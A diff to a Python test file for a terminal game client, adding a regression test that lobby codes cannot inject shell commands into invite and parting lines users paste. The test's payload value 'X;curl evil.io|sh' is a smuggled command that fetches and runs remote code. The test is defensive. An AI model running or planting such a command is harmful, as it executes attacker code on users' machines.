@@ -14,12 +14,16 @@ from fuzzing.victims import Victim
 from msgspec.structs import replace
 
 from client import state as s
+from client.full_screen.parting import parting_text
 from client.kept.identity import Keyring
 from client.line import network as module
 from client.line.cleaning import cleaned
 from client.line.network import Network
+from client.screens.desk import Desk
+from client.settings import Settings
 from client.state import ClientState
 from client.store import AnyEvent, reduce
+from client.way_in.invites import invites
 from protocol import events as e
 from protocol.answers import Goodbye, Refused
 from protocol.codec import decode_event, encode_event, frame_event
@@ -32,7 +36,7 @@ from protocol.refusals import Refusal
 from protocol.text import MAX_MARKS
 from tests.protocol.examples import a_deal, a_play
 from tests.support.fake_server import FakeServer
-from tests.support.screen_states import dealt, online
+from tests.support.screen_states import dealt, in_lobby, lobby_state, online
 
 SEEDS = range(10)
 FRAMES = 2_000  # of each seed: 20,000 in all
@@ -208,6 +212,19 @@ def test_a_temperament_once_steered_the_terminal_of_the_plain_client() -> None:
     seat = cleaned(NAMED)
 
     assert (seat.name, seat.temperament) == ("[2Jbo", "[2Jbo")
+
+
+def test_a_lobby_could_be_called_what_a_shell_obeys_and_stood_in_lines_that_people_paste() -> None:
+    bad = replace(lobby_state(), code="X;curl evil.io|sh")
+
+    state = replace(in_lobby(), lobby=bad, ssh="ssh -t play@box ")
+
+    pasted = [
+        *[invite.text for invite in invites(state)],
+        parting_text(state, Desk()),
+        parting_text(state, Desk(settings=Settings(kiosk=True))),
+    ]
+    assert [line for line in pasted if "CODE" not in line or "curl" in line] == []
 
 
 def test_an_honest_message_is_not_touched() -> None:
